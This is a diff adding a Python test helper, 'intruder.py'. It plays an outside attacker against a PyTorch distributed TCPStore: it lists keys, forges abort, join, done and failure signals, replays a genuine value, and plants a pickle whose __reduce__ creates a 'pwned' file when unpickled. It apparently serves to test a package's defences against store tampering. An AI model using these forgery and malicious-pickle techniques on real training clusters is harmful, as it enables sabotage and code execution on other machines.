@@ -1,0 +1,87 @@
+"""An outside process that reached a gang's store knowing only MASTER_ADDR and MASTER_PORT:
+`python intruder.py ADDR PORT WORLD_SIZE NODES OUT_DIR`. It lists every key, and under every
+prefix it finds (the package's keys as they are named today, and as they were named when they
+lay under the secret) forges what would steer the gang: an abort, check-ins, a node's done and
+failure, ranks' done, a checkpoint, and a gather value of every rank but 0 that is a pickle
+with a side effect (it creates OUT_DIR/pwned when unpickled); it replays a genuine value under
+the abort key. It writes what it saw and did to OUT_DIR/intruder.json.
+
+Test flows start it from rank 0 before the other ranks can send their gather values (they wait
+in init_process_group), with an environment that holds nothing of the gang's."""
+
+import json
+import os
+import pickle
+import sys
+import time
+from datetime import timedelta
+
+
+class SideEffect:
+    def __init__(self, path):
+        self.path = path
+
+    def __reduce__(self):
+        return (open, (self.path, "w"))
+
+
+def prefixes(keys):
+    found = {"mftd/"}
+    for key in keys:
+        parts = key.split("/")
+        if parts[0] == "mftd" and len(parts) > 2:
+            found.add("mftd/%s/" % parts[1])
+    return sorted(found)
+
+
+def forge(store, prefix, world_size, nodes, out_dir):
+    failure = {"rank": world_size - 1, "node": nodes - 1, "kind": "exception",
+               "detected_at": time.time(), "message": "ValueError: forged", "local_rank": 0}
+    values = {prefix + "abort": b"1", prefix + "checkpoint": b'{"loaded": null}'}
+    for node in range(1, nodes):
+        values[prefix + "joined/node%d" % node] = b"1"
+        values[prefix + "node/%d/done" % node] = b"1"
+        values[prefix + "node/%d/failure" % node] = json.dumps(dict(failure, node=node)).encode()
+    for rank in range(1, world_size):
+        values[prefix + "joined/rank%d" % rank] = b"1"
+        values[prefix + "rank/%d/done" % rank] = b"1"
+        values[prefix + "gather/0/%d" % rank] = pickle.dumps(
+            SideEffect(os.path.join(out_dir, "pwned")))
+    for key, value in values.items():
+        store.set(key, value)
+    return sorted(values)
+
+
+def main(addr, port, world_size, nodes, out_dir):
+    from torch.distributed import TCPStore
+
+    store = TCPStore(addr, int(port), None, False, timedelta(seconds=20))
+    keys = store.list_keys()
+    wrote = []
+    for prefix in prefixes(keys):
+        wrote += forge(store, prefix, int(world_size), int(nodes), out_dir)
+    genuine = [k for k in keys if k.startswith("mftd/") and not k.endswith("/gang")]
+    if genuine:  # a genuine sealed value, replayed under another key
+        store.set(genuine[0].rsplit("/", 1)[0] + "/abort", store.get(genuine[0]))
+        store.set("mftd/abort", store.get(genuine[0]))
+    store.check(wrote[:1])  # the server has them all (one connection is served in order)
+    with open(os.path.join(out_dir, "intruder.json"), "w") as f:
+        json.dump({"keys": keys, "prefixes": prefixes(keys), "wrote": wrote}, f)
+    print("intruder: listed %d keys, forged %d values under %s"
+          % (len(keys), len(wrote), prefixes(keys)), flush=True)
+
+
+def run_from_rank_0(world_size, nodes, out_dir):
+    """Start the intruder as a process of its own, given only MASTER_ADDR and MASTER_PORT and
+    an environment without the gang's, and wait for it; then leave the watches time to look."""
+    import subprocess
+
+    env = {"PATH": os.environ.get("PATH", ""), "PYTHONPATH": os.pathsep.join(sys.path)}
+    subprocess.run([sys.executable, __file__, os.environ["MASTER_ADDR"],
+                    os.environ["MASTER_PORT"], str(world_size), str(nodes), out_dir],
+                   env=env, check=True, timeout=60)
+    time.sleep(1.0)
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
